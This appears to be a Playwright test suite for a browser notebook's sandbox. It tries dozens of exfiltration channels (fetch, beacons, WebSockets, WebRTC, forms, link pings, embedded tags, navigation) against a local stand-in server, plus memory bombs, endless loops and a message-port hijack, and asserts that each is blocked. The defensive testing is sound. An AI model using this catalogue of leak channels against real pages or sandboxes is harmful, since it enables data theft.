/**
 * Cells reach nothing: every way out that is known is tried, from a cell and, a line further in, from the frame around
 * the cells' worker. What arrives is counted where it would arrive: at the page's own server and at another one, by
 * request and by connection, and at a port of UDP. To add a way: a line of `ways`, with TO for the address.
 */
import { createSocket } from 'node:dgram';
import { createServer } from 'node:http';
import { fileURLToPath } from 'node:url';
import { test as base, expect } from '@playwright/test';
import { serve } from '../../web/tools/serve.mjs';

const folder = fileURLToPath(new URL('../../dist-page', import.meta.url));

const cell = (id, value, mode = 'js') => ({ id, mode, value, pinned: true, hidden: false });

const test = base.extend({
  /** The two servers, and what arrived that the page itself does not ask for. */
  servers: async ({}, use) => {
    const arrived = [];
    const other = createServer((request, response) => {
      arrived.push(`${request.method} ${request.url}`);
      response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('');
    });
    other.on('connection', () => arrived.push('a connection'));
    const udp = createSocket('udp4').on('message', () => arrived.push('a datagram'));
    await new Promise((resolve) => other.listen(0, '127.0.0.1', resolve));
    await new Promise((resolve) => udp.bind(0, '127.0.0.1', resolve));
    const own = await serve(folder, 0, {}, (url) => url.includes('secret') && arrived.push(`own server: ${url}`));
    await use({
      arrived,
      page: own.url,
      to: `http://127.0.0.1:${other.address().port}`,
      udp: udp.address().port,
    });
    await own.close();
    other.closeAllConnections();
    await Promise.all([new Promise((done) => other.close(done)), new Promise((done) => udp.close(done))]);
  },
});

/** Statements; what they throw counts as refused. TO is the other server, or the page's own; UDP a port. */
const ways = {
  fetch: 'await fetch(TO + "/secret")',
  'fetch, no-cors': 'await fetch(TO + "/secret", { mode: "no-cors", method: "POST", body: "secret" })',
  'fetch, keepalive': 'await fetch(TO + "/secret", { keepalive: true, mode: "no-cors" })',
  'a request with a relative address': 'await fetch("/secret")',
  XMLHttpRequest: 'const x = new XMLHttpRequest(); x.open("GET", TO + "/secret", false); x.send()',
  WebSocket: 'new WebSocket(TO.replace("http", "ws") + "/secret")',
  WebSocketStream: 'await new WebSocketStream(TO.replace("http", "ws") + "/secret").opened',
  EventSource: 'new EventSource(TO + "/secret")',
  sendBeacon: 'navigator.sendBeacon(TO + "/secret", "secret")',
  'import()': 'await (0, eval)("import(\'" + TO + "/secret.js\')")',
  importScripts: 'importScripts(TO + "/secret.js")',
  'import of data that imports': 'await (0, eval)("import(\'data:text/javascript,import \\"" + TO + "/secret\\"\')")',
  Worker: 'new Worker(TO + "/secret.js")',
  'Worker, module': 'new Worker(TO + "/secret.js", { type: "module" })',
  SharedWorker: 'new SharedWorker(TO + "/secret.js")',
  'a worker of a blob': `const inner = "fetch('" + TO + "/secret'); importScripts('" + TO + "/secret')";
    new Worker(URL.createObjectURL(new Blob([inner])))`,
  'a worker of data': `new Worker("data:text/javascript,fetch('" + TO + "/secret')")`,
  ServiceWorker: 'await navigator.serviceWorker.register(TO + "/secret.js")',
  WebTransport: 'await new WebTransport(TO.replace("http:", "https:") + "/secret").ready',
  WebRTC: `const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:" + UDP }] });
    peer.createDataChannel("secret"); await peer.setLocalDescription(await peer.createOffer())`,
  'CacheStorage.add': 'await (await caches.open("x")).add(TO + "/secret")',
  'background fetch': 'await (await navigator.serviceWorker.ready).backgroundFetch.fetch("x", TO + "/secret")',
  'a font': 'await new FontFace("x", "url(" + TO + "/secret.woff2)").load()',
  'WebAssembly.compileStreaming': 'await WebAssembly.compileStreaming(fetch(TO + "/secret.wasm"))',
  'a picture':
    'await new Promise((done) => Object.assign(new Image(), { src: TO + "/secret.png", onload: done, onerror: done }))',
  'createImageBitmap of a picture': 'createImageBitmap(Object.assign(new Image(), { src: TO + "/secret" }))',
  'location of the worker': 'self.location = TO + "/secret"',
  'location of the top': 'top.location = TO + "/secret"',
  'location of the parent': 'parent.location.href = TO + "/secret"',
  'location of the opener': 'opener.location = TO + "/secret"',
  'window.open': 'open(TO + "/secret")',
  localStorage: 'localStorage.setItem("secret", "1")',
  indexedDB: 'indexedDB.open("secret"); throw new Error("of the sandbox alone")',
  cookies: 'document.cookie = "secret=1"',
  cookieStore: 'await cookieStore.set("secret", "1")',
  BroadcastChannel: 'new BroadcastChannel("secret").postMessage("secret")',
  clipboard: 'await navigator.clipboard.writeText("secret")',
  notification: 'await new Notification("secret", { icon: TO + "/secret" })',
  reports: 'new ReportingObserver(() => {}).observe(); await fetch(TO + "/secret", { headers: { "Report-To": TO } })',
  ...Object.fromEntries(
    Object.entries({
      script: '{ src: TO + "/secret.js" }',
      'script, module': '{ type: "module", src: TO + "/secret.js" }',
      link: '{ rel: "stylesheet", href: TO + "/secret.css" }',
      'link, prefetch': '{ rel: "prefetch", href: TO + "/secret" }',
      'link, preload': '{ rel: "preload", as: "script", href: TO + "/secret" }',
      'link, modulepreload': '{ rel: "modulepreload", href: TO + "/secret" }',
      'link, preconnect': '{ rel: "preconnect", href: TO }',
      'link, dns-prefetch': '{ rel: "dns-prefetch", href: "//secret.invalid" }',
      'link, icon': '{ rel: "icon", href: TO + "/secret.ico" }',
      'link, manifest': '{ rel: "manifest", href: TO + "/secret.json" }',
      img: '{ src: TO + "/secret" }',
      'img, srcset': '{ srcset: TO + "/secret 2x" }',
      iframe: '{ src: TO + "/secret" }',
      'iframe, srcdoc': `{ srcdoc: "<img src='" + TO + "/secret'><meta http-equiv=refresh content='0;url=" + TO + "/secret'>" }`,
      object: '{ data: TO + "/secret" }',
      embed: '{ src: TO + "/secret" }',
      audio: '{ src: TO + "/secret", preload: "auto" }',
      video: '{ src: TO + "/secret", poster: TO + "/secret" }',
      track: '{ src: TO + "/secret" }',
      style: '{ textContent: "@import url(" + TO + "/secret); body { background: url(" + TO + "/secret) }" }',
      'body of a style': '{ style: "background: url(" + TO + "/secret)" }',
      base: '{ href: TO }',
    }).map(([name, properties]) => [
      `<${name}>`,
      `document.body.append(Object.assign(document.createElement("${name.split(',')[0].split(' ').at(-1)}"), ${properties}))`,
    ]),
  ),
  'an SVG with a picture in it': `document.body.append(document.createRange().createContextualFragment(
    "<svg><image href='" + TO + "/secret'/><use href='" + TO + "/secret#x'/></svg>"))`,
  'a form': `const form = Object.assign(document.createElement("form"), { action: TO + "/secret", method: "post" });
    document.body.append(form); form.submit()`,
  'a link that pings': `const a = Object.assign(document.createElement("a"), { href: "#x", ping: TO + "/secret" });
    document.body.append(a); a.click()`,
  'a download': `const a = Object.assign(document.createElement("a"), { href: TO + "/secret", download: "x" });
    document.body.append(a); a.click()`,
  'a speculation rule': `document.body.append(Object.assign(document.createElement("script"), { type: "speculationrules",
    textContent: JSON.stringify({ prefetch: [{ urls: [TO + "/secret"] }] }) }))`,
};

test('what arrives is counted', async ({ page, servers }) => {
  await page.goto(`${servers.page}sandbox.html?secret`);
  await page.request.get(`${servers.to}/secret`);
  expect(servers.arrived).toEqual(['own server: /sandbox.html?secret', 'a connection', 'GET /secret']);
});

const attempt = (code, to, udp) => `const TO = ${JSON.stringify(to)}, UDP = ${udp};\n${code}`;

test('no cell reaches another origin or the server of the page', async ({ page, servers }) => {
  const targets = [servers.to, servers.page.slice(0, -1)];
  const cells = Object.values(ways).flatMap((code, i) =>
    targets.map((to, k) => cell(2 * i + k + 1, `{\n${attempt(code, to, servers.udp)}\n}`)),
  );
  // longer than a link may be: as a file
  await openFile(page, servers.page, cells);
  expect(servers.arrived, 'before anything runs').toEqual([]);
  await page.getByRole('button', { name: 'Run this notebook' }).click();
  await expect(page.locator('#notebook')).toHaveAttribute('data-running', '0', { timeout: 30_000 });
  await page.waitForTimeout(1000); // what is under way would arrive by then
  expect(Object.keys(ways).length).toBeGreaterThanOrEqual(30);
  expect(servers.arrived).toEqual([]);
  await expect(page).toHaveURL(/notebooks\.html/);
  expect(page.context().pages()).toHaveLength(1);
  expect(await page.evaluate(() => [document.cookie, localStorage.getItem('secret')])).toEqual(['', null]);
});

/** Policies say nothing of these. A worker has none of them, and cells have but a worker. */
const beyondPolicies = ['WebRTC', '<link, preconnect>', '<link, dns-prefetch>'];

/** Ways that the frame has and no cell: a cell runs in a worker, without a document. */
const ofDocuments = {
  'to leave for another place': 'location = TO + "/secret"',
  'a meta refresh': `document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0;url=" + TO + "/secret" }))`,
};

test('nor does the frame around the worker reach another origin', async ({ page, servers }) => {
  const { to, udp, arrived } = servers;
  // Chromium connects for a navigation before it refuses it; nothing is sent
  const requests = () => arrived.filter((what) => what !== 'a connection');
  for (const [name, code] of Object.entries({ ...ways, ...ofDocuments })) {
    if (beyondPolicies.includes(name)) continue;
    await (
      await frameOf(page, servers.page)
    )
      .evaluate(
        (text) => {
          const limit = new Promise((_, reject) => setTimeout(reject, 300));
          return Promise.race([(0, eval)(`(async () => {${text}\n})()`), limit]).then(
            () => undefined,
            () => undefined,
          );
        },
        attempt(code, to, udp),
      )
      .catch(() => undefined);
    expect(requests(), name).toEqual([]);
  }
  await page.waitForTimeout(500);
  expect(requests()).toEqual([]);
});

/** The sandbox of a notebook; in a page that is opened anew where it was lost. */
async function frameOf(page, origin) {
  const find = () => page.frames().find((one) => one.url() === `${origin}sandbox.html`);
  // what was refused leaves a page of the browser's own in its place
  const here = await find()
    ?.evaluate(() => document.title)
    .catch(() => '');
  if (!here?.startsWith('The sandbox')) {
    await page.goto(`${origin}notebooks.html?name=exact-positions`);
    await expect.poll(() => find() !== undefined).toBe(true);
    await find().waitForLoadState();
    expect(await find().evaluate(() => self.origin)).toBe('null');
  }
  return find();
}

test('the sandbox does nothing where it is opened by itself', async ({ page, servers }) => {
  await page.goto(`${servers.page}sandbox.html`);
  expect(await page.evaluate(() => self.origin), 'sandboxed by the header').toBe('null');
  const made = await page.evaluate(async () => {
    const { port1, port2 } = new MessageChannel();
    postMessage('fetch("/secret")', '*', [port1, port2]);
    await new Promise((done) => setTimeout(done, 300));
    return performance.getEntriesByType('resource').length;
  });
  expect(made).toBe(0);
  expect(servers.arrived).toEqual([]);
});

test('an endless loop is stopped; the page answers meanwhile, and goes on without the cell', async ({
  page,
  servers,
}) => {
  await openFile(page, servers.page, [cell(1, '"first"'), cell(2, 'for (;;);')]);
  await page.getByRole('button', { name: 'Run this notebook' }).click();
  await expect(page.locator('.nb-told')).toContainText('busy', { timeout: 20_000 });
  const longest = await longestTurn(page);
  console.log(`longest turn of the page beside an endless loop: ${longest.toFixed(0)} ms`);
  expect(longest).toBeLessThan(SECOND);
  await expect(page.locator('#cell-2 .nb-fault')).toContainText('did not answer', { timeout: 30_000 });
  await page.getByRole('button', { name: 'Run all' }).click();
  await expect(page.locator('#cell-1 .nb-outputs')).toHaveText('first');
});

test('the reader stops a cell that takes long', async ({ page, servers }) => {
  await openFile(page, servers.page, [cell(1, 'for (;;);')]);
  await page.getByRole('button', { name: 'Run this notebook' }).click();
  const stop = page.getByRole('button', { name: 'Stop', exact: true });
  await expect(stop).toBeEnabled();
  await stop.click();
  await expect(page.locator('#cell-1 .nb-fault')).toContainText('Stopped by the reader');
  await expect(page.locator('iframe')).toHaveCount(0);
});

for (const [name, code] of Object.entries({
  arrays: 'const kept = []; for (;;) kept.push(new Float64Array(1e7).fill(1))',
  buffers: 'const kept = []; for (;;) kept.push(new ArrayBuffer(2 ** 28))',
  'WebAssembly memory': 'const kept = []; for (;;) kept.push(new WebAssembly.Memory({ initial: 16384 }))',
  objects: 'const kept = []; for (let i = 0; ; i++) kept.push(new Array(1e6).fill(i + 0.5))',
  strings:
    'let text = "x".repeat(2 ** 20); const kept = []; for (let i = 0; ; i++) kept.push(text += text.slice(0, 2 ** 20) + i)',
}))
  test(`a bomb of ${name} is stopped, with a message`, async ({ page, servers }) => {
    test.slow();
    await openFile(page, servers.page, [cell(1, `{ ${code} }`)]);
    await page.getByRole('button', { name: 'Run this notebook' }).click();
    await expect(page.locator('#cell-1 .nb-fault')).toBeVisible({ timeout: 60_000 });
    console.log(`${name}: ${await page.locator('#cell-1 .nb-fault').textContent()}`);
    // the page is alive
    expect(await page.evaluate(() => 1 + 1)).toBe(2);
  });

/** Opens cells as a file, and waits until they are shown. */
async function openFile(page, origin, cells, title = 'Hostile') {
  const scripts = cells.map(({ id, value }) => `<script id="${id}" type="module" pinned>\n${value}\n</script>`);
  await page.goto(`${origin}notebooks.html`);
  await page.waitForSelector('html[data-ready]');
  await page.setInputFiles('#open-notebook', {
    name: 'hostile.html',
    mimeType: 'text/html',
    buffer: Buffer.from(`<!doctype html><notebook><title>${title}</title>${scripts.join('\n')}</notebook>`),
  });
  await expect(page.locator('.nb-review')).toBeVisible();
}

test('a cell that displays without end does not hold the page up', async ({ page, servers }) => {
  await openFile(page, servers.page, [
    cell(1, 'for (let i = 0; ; i++) { display(i); await new Promise((done) => setTimeout(done)); }'),
  ]);
  await page.getByRole('button', { name: 'Run this notebook' }).click();
  await expect(page.locator('#cell-1 .nb-outputs > *')).toHaveCount(100);
  const longest = await longestTurn(page);
  console.log(`longest turn of the page beside a flood: ${longest.toFixed(0)} ms`);
  expect(longest).toBeLessThan(SECOND);
  await page.getByRole('button', { name: 'Stop', exact: true }).click();
  await expect(page.locator('iframe')).toHaveCount(0);
});

test('a cell that replaces the functions of ports and objects has neither the port nor the page', async ({
  page,
  servers,
}) => {
  const got = `const target = Object.getOwnPropertyDescriptor(Event.prototype, 'target').get;
    for (const [type, name] of [[MessagePort, 'postMessage'], [MessageEvent, 'data'], [MessageEvent, 'ports'], [Function, 'call']]) {
      const own = Object.getOwnPropertyDescriptor(type.prototype, name);
      const inner = own.get ?? own.value;
      const spy = function (...given) {
        if (this instanceof MessagePort) globalThis.port = this;
        if (this instanceof MessageEvent) globalThis.port = Reflect.apply(target, this, []);
        return Reflect.apply(inner, this, given);
      };
      Object.defineProperty(type.prototype, name, own.get ? { ...own, get: spy } : { ...own, value: spy });
    }
    for (let i = 0; i < 20; i++) { display(i); await new Promise((done) => setTimeout(done, 50)); }
    display(String(globalThis.port)); display(typeof globalThis.postMessage)`;
  await openFile(page, servers.page, [cell(1, got)]);
  await page.getByRole('button', { name: 'Run this notebook' }).click();
  await expect(page.locator('#cell-1 .nb-outputs')).toContainText('undefinedundefined');
});

test('an error in a timer is told at its cell, and the others go on', async ({ page, servers }) => {
  await openFile(page, servers.page, [
    cell(1, 'setTimeout(() => { throw new Error("in a timer") }); "first"'),
    cell(2, 'Promise.reject(new Error("of nobody")); 2'),
    cell(3, '3'),
  ]);
  await page.getByRole('button', { name: 'Run this notebook' }).click();
  await expect(page.locator('#cell-1 .nb-fault')).toContainText('in a timer');
  await expect(page.locator('#cell-2 .nb-fault')).toContainText('of nobody');
  await expect(page.locator('#cell-3 .nb-outputs')).toHaveText('3');
  await expect(page.locator('iframe.sandbox')).toHaveCount(1);
});

/** A page that does not answer for so long hangs; what is printed is some tens of milliseconds. */
const SECOND = 1000;

/** How long a turn of the page's own event loop takes at most, in ms. */
function longestTurn(page) {
  return page.evaluate(async () => {
    let [last, most] = [performance.now(), 0];
    for (let i = 0; i < 100; i++) {
      await new Promise((done) => setTimeout(done, 5));
      const now = performance.now();
      [most, last] = [Math.max(most, now - last), now];
    }
    return most;
  });
}
